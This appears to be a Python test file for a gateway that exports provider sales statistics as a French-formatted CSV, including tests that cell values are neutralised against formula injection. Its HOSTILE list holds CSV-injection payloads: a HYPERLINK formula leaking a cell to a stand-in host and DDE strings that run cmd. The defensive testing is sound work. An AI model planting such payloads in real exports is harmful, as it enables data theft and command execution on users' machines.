"""A provider's accountant opens the sales in a spreadsheet program, whatever names people have chosen."""

import csv
from io import StringIO
from typing import Any

import pytest

from gateway.spreadsheet import euros, harmless

ID = "01k9aaaaaaaaaaaaaaaaaaaaaa"
PROVIDER, OFFER = f"prv_{ID}", f"off_{ID}"
ADDRESS = f"/v1/providers/{PROVIDER}/statistics?from=2020-07-01&to=2020-07-31&by="
HOSTILE = [
    '=HYPERLINK("http://here.example/?"&A1,"Solde")',
    "+33 6 00 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "＝1+1",
    'Canoë";"=1+1',
    "Canoë;=1+1",
    "Canoë,=1+1",
    "Canoë , =1+1",
    "Canoë\r\n=1+1",
    "'=1+1",
]
FORMULA_SIGNS = tuple("=+-@\t\r＝＋－＠")
SALES = {
    "redemptions": 3,
    "adults": 5,
    "children": 2,
    "gross_cents": 123_456,
    "reduction_cents": 23_456,
    "net_cents": 100_000,
    "paid_from_pot_cents": 7,
}


@pytest.fixture
def accountant(gateway: Any, token_of: Any) -> Any:
    """``accountant(by, rows, name, title)`` downloads that provider's sales."""

    def download(by: str, rows: list[dict[str, Any]], name: str = "Canoë du Tarn", title: str = "Été") -> Any:
        total = {"key": "total", **SALES}
        offer = {"id": OFFER, "title": {"fr": title, "en": "Summer"}}
        gateway.services.answers = {
            "offers.get_statistics": {"provider_id": PROVIDER, "by": by, "rows": rows, "total": total},
            "offers.get_provider": {
                "id": PROVIDER,
                "name": name,
                "offers": [offer],
                "sites": [{"id": "sit_1", "name": "Le quai"}],
            },
        }
        headers = {**token_of("statistics:read"), "Accept": "text/csv"}
        return gateway.http.get(ADDRESS + by, headers=headers)

    return download


def cells(answer: Any, separator: str = ";") -> list[list[str]]:
    """What a program reads that is set to this separator."""
    return list(csv.reader(StringIO(answer.data.decode("utf-8-sig"), newline=""), delimiter=separator))


def test_sales_are_a_file_that_a_french_spreadsheet_program_opens(accountant: Any) -> None:
    answer = accountant("day", [{"key": "2020-07-10", **SALES}])
    assert answer.status_code == 200
    assert answer.content_type == "text/csv; charset=utf-8"
    assert answer.data.startswith(b"\xef\xbb\xbf"), "without it Excel spoils every accent"
    assert answer.headers["Content-Disposition"] == (
        'attachment; filename="ventes-par-jour-2020-07-01-2020-07-31.csv"'
    )
    assert (answer.headers["Cache-Control"], answer.headers["Vary"]) == ("no-store", "Accept")
    head, row = cells(answer)
    assert head[:3] == ["Prestataire", "Jour", "Passages"]
    assert head[-1] == "Payé par la cagnotte (€)"
    assert row == [
        *("Canoë du Tarn", "2020-07-10", "3", "5", "2"),
        *("1234,56", "234,56", "1000,00", "0,07"),
    ]


def test_an_offer_is_named_by_its_title_and_an_unknown_one_by_its_id(accountant: Any) -> None:
    rows = [{"key": OFFER, **SALES}, {"key": "off_gone", **SALES}]
    head, named, unnamed = cells(accountant("offer", rows, title="Descente; en famille"))
    assert head[1:3] == ["Offre", "Intitulé"]
    assert named[1:3] == [OFFER, "Descente; en famille"]
    assert unnamed[1:3] == ["off_gone", ""]


def test_a_site_is_named(accountant: Any) -> None:
    answer = accountant("site", [{"key": "sit_1", **SALES}])
    assert 'filename="ventes-par-site-' in answer.headers["Content-Disposition"]
    head, row = cells(answer)
    assert (head[1:3], row[1:3]) == (["Site", "Nom"], ["sit_1", "Le quai"])


def test_the_same_call_answers_json_to_everybody_else(accountant: Any, gateway: Any, token_of: Any) -> None:
    accountant("card_type", [{"key": "family", **SALES}])
    for accept in ({}, {"Accept": "*/*"}, {"Accept": "application/json, text/csv;q=0.9"}):
        answer = gateway.http.get(f"{ADDRESS}card_type", headers={**token_of("statistics:read"), **accept})
        assert answer.json["rows"] == [{"key": "family", **SALES}]


def test_a_refusal_is_a_problem_whatever_was_asked_for(gateway: Any) -> None:
    answer = gateway.http.get(f"{ADDRESS}day", headers={"Accept": "text/csv"})
    assert (answer.status_code, answer.content_type) == (401, "application/problem+json")


@pytest.mark.parametrize("separator", [";", ",", "|"])
@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_begins_like_a_formula(accountant: Any, name: str, separator: str) -> None:
    """Neither for a program that is set to another separator, which cuts our cells in two."""
    answer = accountant("offer", [{"key": OFFER, **SALES}], name=name, title=name)
    begun = [
        cell for row in cells(answer, separator) for cell in row if cell.lstrip(" ").startswith(FORMULA_SIGNS)
    ]
    assert begun == []
    _head, row = cells(answer)
    assert without_apostrophes(row[0]) == without_apostrophes(row[2]) == without_apostrophes(name)


def without_apostrophes(text: str) -> str:
    """What a name says, on one line."""
    return " ".join(text.replace("'", "").split())


@pytest.mark.parametrize("name", ["Canoë-kayak", "Parc d'aventure", "Musée, jardin & café", "À 2 = 1 offert"])
def test_an_honest_name_is_left_alone(name: str) -> None:
    assert harmless(name) == name


@pytest.mark.parametrize(
    ("cents", "text"),
    [(0, "0,00"), (5, "0,05"), (-1_250, "-12,50"), (-7, "-0,07"), (10_000_000, "100000,00")],
)
def test_cents_are_written_as_euros(cents: int, text: str) -> None:
    assert euros(cents) == text
